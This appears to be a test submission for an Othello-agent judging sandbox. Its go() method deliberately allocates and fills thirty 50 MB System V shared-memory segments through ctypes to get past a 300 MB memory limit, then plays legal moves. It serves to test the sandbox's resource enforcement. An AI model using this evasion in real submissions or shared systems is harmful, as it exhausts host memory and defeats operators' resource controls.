# attack: holds 1.5 GB in System V shared memory
# kind: py
# options: --memory 300
# expect: plays memory
import ctypes
import sys


def legal(board, color):
    def flips(r, c, a, b):
        n, on = 1, lambda n: 0 <= r + n * a < 8 and 0 <= c + n * b < 8
        while on(n) and board[r + n * a][c + n * b] == -color:
            n += 1
        return n > 1 and on(n) and board[r + n * a][c + n * b] == color
    free = [(r, c) for r in range(8) for c in range(8) if board[r][c] == 0]
    return [(r, c) for r, c in free if any(flips(r, c, a, b) for a in (-1, 0, 1) for b in (-1, 0, 1))]


LIBC = ctypes.CDLL(None)
LIBC.shmat.restype = ctypes.c_void_p


class AI(object):
    def __init__(self, chessboard_size, color, time_out):
        self.color, self.candidate_list = color, []

    def go(self, chessboard):
        for number in range(30):
            segment = LIBC.shmget(0, 50 << 20, 0o1600)
            if segment >= 0:
                ctypes.memset(LIBC.shmat(segment, None, 0), 1, 50 << 20)
            if number == 29 and segment >= 0:
                print("BREACH 1.5 GB", file=sys.stderr, flush=True)
        moves = legal(chessboard, self.color)
        self.candidate_list = moves + moves[:1]
